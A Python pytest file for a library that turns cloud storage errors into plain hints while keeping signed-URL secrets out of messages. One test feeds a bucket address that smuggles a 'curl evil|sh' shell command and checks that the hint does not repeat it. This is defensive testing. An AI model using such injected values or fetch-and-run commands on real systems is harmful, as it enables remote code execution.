"""Errors of libraries as ours: recognized by their origin and message, with a hint."""

from pathlib import Path

import pytest

from newsbert.core import config, installation, object_stores
from newsbert.core.container_environment import for_container
from newsbert.core.environment import store_hosts
from newsbert.core.installation import MissingExtraError
from newsbert.errors import NewsbertError, RefusedError
from newsbert.tracking import foreign_errors

STORE_ERRORS = (
    ("s3", "An error occurred (ExpiredToken) when calling the PutObject operation", "have expired", "get new ones"),
    ("s3", "An error occurred (RequestTimeTooSkewed) when calling PutObject", "clock is wrong", "timedatectl"),
    ("s3", "An error occurred (AccessDenied) when calling PutObject", "may not do that", "s3:GetObject"),
    ("s3", "SSL validation failed for https://x [SSL: CERTIFICATE_VERIFY_FAILED]", "not trusted", "AWS_CA_BUNDLE"),
    ("s3", "Could not connect to the endpoint URL", "cannot be reached", "MLFLOW_S3_ENDPOINT_URL"),
    ("s3", "AWS Error ACCESS_DENIED during HeadObject operation", "may not do that", "s3:GetObject"),
    ("s3", "AWS Error NO_SUCH_BUCKET during PutObject operation", "no such bucket", "aws s3 mb s3://models"),
    ("s3", "AWS Error NETWORK_CONNECTION during HeadBucket: Couldn't resolve host name", "cannot be reached", "MLFLOW"),
    ("gs", "('invalid_grant: Token has been expired or revoked.', {})", "have expired", "get new ones"),
    ("gs", "Max retries exceeded (Caused by NameResolutionError)", "cannot be reached", "HTTPS_PROXY"),
    ("gs", "403 POST https://storage: x does not have storage.objects.create access", "may not do", "objectAdmin"),
    ("wasbs", "Failed to resolve 'a' ([Errno -2] Name or service not known)", "cannot be reached", "AZURE_STORAGE"),
    ("wasbs", "AuthenticationFailed\nRequest date header too old", "clock is wrong", "timedatectl"),
    (
        "wasbs",
        "The specified container does not exist.\nErrorCode:ContainerNotFound",
        "no such bucket",
        "container create",
    ),
    (
        "wasbs",
        "https://a/b?sig=PLANTED%3D: Signature not valid in the specified time frame",
        "have expired",
        "new",
    ),
)


@pytest.mark.parametrize(("scheme", "text", "meaning", "mend"), STORE_ERRORS)
def test_store_errors_are_explained_without_secrets(scheme: str, text: str, meaning: str, mend: str) -> None:
    address = f"{scheme}://models/path?X-Amz-Signature=PLANTED"
    error = object_stores.store_error([OSError(text)], "it cannot be logged", address)
    assert meaning in error.message
    assert mend in (error.hint or "")
    assert isinstance(error, RefusedError) is (meaning != "cannot be reached")  # waiting mends only that
    assert "PLANTED" not in f"{error.message} {error.hint}"
    assert error.document()["code"] == "tracking"


def test_attack_a_bucket_name_with_shell_syntax_is_in_no_hint() -> None:
    error = object_stores.store_error([OSError("NoSuchBucket")], "", "s3://x;curl evil|sh;#/path")
    assert "aws s3 mb s3://BUCKET" in (error.hint or "")


def test_builtin_errors_of_a_client_are_store_errors(monkeypatch: pytest.MonkeyPatch) -> None:
    blob = pytest.importorskip("azure.storage.blob", reason="needs newsbert[azure]")
    with pytest.raises(ValueError, match="Connection string") as caught:
        blob.BlobServiceClient.from_connection_string("nonsense")
    error = foreign_errors.translate(caught.value, "it cannot be logged", "sqlite:///x", "wasbs://a@b.blob/x")
    assert error is not None
    assert "the credentials are refused" in error.message


def test_bugs_are_not_translated_and_missing_modules_name_their_extra() -> None:
    with pytest.raises(KeyError) as caught:
        config.resolve(int)  # type: ignore[type-var]
    assert foreign_errors.translate(caught.value, "", "sqlite:///x", "s3://x/y") is None
    for module, extra in (("boto3", "s3"), ("google.cloud", "gs"), ("azure.storage", "azure"), ("torch", "train")):
        error = foreign_errors.translate(ModuleNotFoundError("no", name=module), "", "sqlite:///x")
        assert isinstance(error, MissingExtraError)
        assert error.hint == installation.command(extra)
    ours = NewsbertError("raised before")
    assert foreign_errors.translate(ours, "", "sqlite:///x") is ours


def test_containers_get_the_credentials_in_the_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("AWS_SHARED_CREDENTIALS_FILE", "GOOGLE_APPLICATION_CREDENTIALS", "AWS_CONFIG_FILE"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("HOME", str(tmp_path))
    login = tmp_path / ".config/gcloud/application_default_credentials.json"
    for file in (tmp_path / ".aws/credentials", login):
        file.parent.mkdir(parents=True)
        file.touch()
    monkeypatch.setenv("AZURE_STORAGE_CONNECTION_STRING", "AccountName=a;BlobEndpoint=http://127.0.0.1:1/a;")
    environment, files = for_container()
    assert environment["GOOGLE_APPLICATION_CREDENTIALS"] == str(login)
    assert environment["AWS_SHARED_CREDENTIALS_FILE"] == str(tmp_path / ".aws/credentials")
    assert "AWS_CONFIG_FILE" not in environment
    assert (files[login], files[tmp_path / ".aws/credentials"]) == (False, False)
    assert "127.0.0.1" in store_hosts()
